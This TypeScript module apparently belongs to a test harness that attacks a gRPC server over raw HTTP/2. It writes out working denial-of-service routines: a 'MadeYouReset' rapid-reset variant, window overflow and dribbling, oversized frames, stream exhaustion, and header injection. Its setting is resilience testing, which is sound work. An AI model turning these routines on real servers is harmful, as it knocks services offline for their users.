import type { Attacker } from '../attacker.ts';
import {
  callFields,
  flag,
  frame,
  frameType,
  grpcMessage,
  type Http2Wire,
  headerBlock,
  settings,
  uint32,
} from '../http2-wire.ts';
import { crowd, many, type Port, pause } from './crowd.ts';
import { healthCheck } from './http2-floods.ts';

const maxWindow = 2 ** 31 - 1;
const call = callFields(healthCheck);
const block = headerBlock(call);
const emptyMessage = grpcMessage(Buffer.alloc(0));
const endStream = flag.endHeaders | flag.endStream;

/** A whole call, as an honest client sends it. */
function wholeCall(stream: number): Buffer {
  return Buffer.concat([
    frame(frameType.headers, flag.endHeaders, stream, block),
    frame(frameType.data, flag.endStream, stream, emptyMessage),
  ]);
}

/**
 * Frames that make the server itself reset a stream whose call is under way: the six primitives that were published.
 */
const resetters: readonly ((stream: number) => Buffer)[] = [
  (stream) => frame(frameType.windowUpdate, 0, stream, uint32(0)),
  (stream) => frame(frameType.windowUpdate, 0, stream, uint32(maxWindow)),
  (stream) => frame(frameType.priority, 0, stream, Buffer.alloc(4)),
  (stream) => frame(frameType.priority, 0, stream, Buffer.concat([uint32(stream), Buffer.from([1])])),
  (stream) => frame(frameType.headers, endStream, stream, block),
  (stream) => frame(frameType.data, flag.endStream, stream, emptyMessage),
];

export function madeYouReset(attacker: Attacker, port: Port) {
  return crowd(attacker, port, {
    connections: resetters.length,
    act: (wire, at) =>
      wire.write(
        ...many(30, () => {
          const stream = wire.nextStream();
          const reset = resetters[at % resetters.length]?.(stream) ?? Buffer.alloc(0);
          return Buffer.concat([wholeCall(stream), reset]);
        }),
      ),
  });
}

/** Asks for much, with windows as large as can be, and takes nothing off the wire. */
export function internalBuffering(attacker: Attacker, port: Port) {
  return crowd(attacker, port, {
    greeting: settings([[4, maxWindow]]),
    begin: (wire) => {
      wire.socket.pause();
      return wire.write(frame(frameType.windowUpdate, 0, 0, uint32(maxWindow - 65_535)));
    },
    act: (wire) => wire.write(...many(20, () => reflectionCall(wire.nextStream(), 1))),
    pauseMs: 5,
  });
}

/** Opens the window for one byte at a time. */
export function dataDribble(attacker: Attacker, port: Port) {
  const byte = (stream: number) => frame(frameType.windowUpdate, 0, stream, uint32(1));
  return crowd(attacker, port, {
    greeting: settings([[4, 0]]),
    begin: (wire) => wire.write(...many(50, () => reflectionCall(wire.nextStream(), 1))),
    act: (wire) => wire.write(...many(50, (at) => byte(2 * at + 1))),
  });
}

/** A stream of reflection that asks for the same file again and again. */
export function reflectionCall(stream: number, questions: number): Buffer {
  const question = grpcMessage(Buffer.concat([Buffer.from([0x22, 24]), Buffer.from('marina.gateway.v1.Orders')]));
  return Buffer.concat([
    frame(
      frameType.headers,
      flag.endHeaders,
      stream,
      headerBlock(callFields('/grpc.reflection.v1.ServerReflection/ServerReflectionInfo')),
    ),
    frame(frameType.data, 0, stream, Buffer.concat(many(questions, () => question))),
  ]);
}

/** Windows that grow beyond what there may be, of streams and of the connection. */
export function windowOverflow(attacker: Attacker, port: Port) {
  const most = uint32(maxWindow);
  return crowd(attacker, port, {
    act: (wire, at) => {
      const stream = at % 2 ? wire.nextStream() : 0;
      const open = stream === 0 ? Buffer.alloc(0) : frame(frameType.headers, flag.endHeaders, stream, block);
      return wire.write(open, ...many(10, () => frame(frameType.windowUpdate, 0, stream, most)));
    },
    pauseMs: 2,
  });
}

/** DATA on streams that are over, and on streams that never were. */
export function dataWithoutStream(attacker: Attacker, port: Port) {
  return crowd(attacker, port, {
    act: (wire, at) => {
      if (at % 2) return wire.write(frame(frameType.data, 0, 2 * at + 1_001, Buffer.alloc(100)));
      const stream = wire.nextStream();
      const reset = frame(frameType.rstStream, 0, stream, uint32(8));
      return wire.write(
        wholeCall(stream),
        reset,
        ...many(50, () => frame(frameType.data, 0, stream, Buffer.alloc(100))),
      );
    },
  });
}

/** Frames larger than may be, whole or only announced, and frames whose length does not fit their type. */
export function oversizedFrames(attacker: Attacker, port: Port) {
  const kinds: readonly ((wire: Http2Wire) => Buffer)[] = [
    (wire) => frame(frameType.headers, flag.endHeaders, wire.nextStream(), Buffer.alloc(100_000)),
    (wire) => frame(frameType.data, 0, wire.nextStream(), Buffer.alloc(1_000), 2 ** 24 - 1),
    () => frame(frameType.settings, 0, 0, Buffer.alloc(5)),
    () => frame(frameType.ping, 0, 0, Buffer.alloc(7)),
    () => frame(frameType.windowUpdate, 0, 0, Buffer.alloc(3)),
    () => frame(frameType.rstStream, 0, 1, Buffer.alloc(5)),
    (wire) => frame(frameType.headers, flag.endHeaders | flag.padded, wire.nextStream(), Buffer.from([255, 0])),
    () => frame(frameType.pushPromise, flag.endHeaders, 1, Buffer.alloc(8)),
  ];
  return crowd(attacker, port, {
    connections: kinds.length,
    act: (wire, at) => wire.write(kinds[at % kinds.length]?.(wire) ?? Buffer.alloc(0)),
    pauseMs: 5,
  });
}

/** Says good-bye, and goes on. */
export function goaways(attacker: Attacker, port: Port) {
  const goaway = frame(frameType.goaway, 0, 0, Buffer.concat([uint32(maxWindow), uint32(0), Buffer.alloc(1_000)]));
  return crowd(attacker, port, {
    act: (wire) => wire.write(goaway, ...many(10, () => wholeCall(wire.nextStream()))),
  });
}

/** Connections that say something, and then nothing more. */
export async function silence(attacker: Attacker, port: Port): Promise<void> {
  await Promise.all([noHttp2(attacker, port), unfinishedHeaders(attacker, port), halfOpenStreams(attacker, port)]);
}

/** Header blocks that are begun, and never ended. */
async function unfinishedHeaders(attacker: Attacker, port: Port) {
  await crowd(attacker, port, {
    connections: 50,
    begin: (wire) => wire.write(frame(frameType.headers, 0, wire.nextStream(), block)),
    act: () => pause(100),
  });
}

/** As many streams as may be, all of them half sent. */
function halfOpenStreams(attacker: Attacker, port: Port) {
  return crowd(attacker, port, {
    connections: 20,
    begin: (wire) =>
      wire.write(...many(200, () => frame(frameType.headers, flag.endHeaders, wire.nextStream(), block))),
    act: () => pause(100),
  });
}

/** More streams than may be at once, all whole. */
export function tooManyStreams(attacker: Attacker, port: Port) {
  return crowd(attacker, port, {
    act: (wire) => wire.write(...many(400, () => frame(frameType.headers, flag.endHeaders, wire.nextStream(), block))),
    pauseMs: 5,
  });
}

/** Heads that no request may have. */
export function strangeHeads(attacker: Attacker, port: Port) {
  const without = (name: string) => call.filter(([each]) => each !== name);
  const heads: readonly (readonly [string, string])[][] = [
    without(':path'),
    without(':method'),
    without(':scheme'),
    [...call, [':path', healthCheck]],
    [['x-first', '1'], ...call],
    [...call, [':status', '200']],
    [...call, [':unknown', '1']],
    [...without(':path'), [':path', '']],
    [...without(':path'), [':path', 'no-slash']],
    [...without(':path'), [':path', '*']],
    [...without(':path'), [':path', `/${'a'.repeat(6_000)}`]],
    [...without(':method'), [':method', 'CONNECT']],
    [...without(':method'), [':method', 'GET']],
    [...call, ['connection', 'keep-alive']],
    [...call, ['transfer-encoding', 'chunked']],
    [...call, ['te', 'gzip']],
    [...call, ['content-length', '-1']],
    [...call, ['content-length', '5'], ['content-length', '6']],
    [...call, ['x-null', 'a\0b']],
    [...call, ['x-break', 'a\r\nb: c']],
    [...call, ['na me', 'x']],
    [...call, ['cookie', 'a'.repeat(8_000)]],
    many(200, (at) => [`x-${at}`, 'y'] as const),
    [],
  ];
  return crowd(attacker, port, {
    connections: 6,
    act: (wire, at) => {
      const fields = heads[((at + wire.nextStream() / 2) % heads.length) | 0] ?? call;
      return wire.write(frame(frameType.headers, endStream, wire.nextStream(), headerBlock(fields)));
    },
    pauseMs: 5,
  });
}

/** Streams whose numbers are even, zero, or lower than one that was. */
export function strangeStreamNumbers(attacker: Attacker, port: Port) {
  const numbers = [0, 2, 5, 3, 1, maxWindow, maxWindow];
  return crowd(attacker, port, {
    act: async (wire, at) => {
      for (let turn = 0; turn < numbers.length; turn += 1) {
        await wire.write(frame(frameType.headers, endStream, numbers[(at + turn) % numbers.length] ?? 0, block));
      }
    },
    pauseMs: 2,
  });
}

/** Sends bytes that are no HTTP/2: requests of HTTP/1, TLS, noise, half a preface, nothing. */
async function noHttp2(attacker: Attacker, { port }: Port) {
  const greetings = [
    'GET / HTTP/1.1\r\nhost: localhost\r\n\r\n',
    'PRI * HTTP/2.0\r\n\r\nSM',
    'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
    Buffer.from('160301020001000001fc0303', 'hex'),
    Buffer.alloc(100_000, 0xff),
    '',
  ];
  let at = 0;
  while (attacker.isOn) {
    const socket = await attacker.connect(attacker.target[port]);
    socket.write(greetings[at++ % greetings.length] ?? '');
    await pause(10);
  }
}
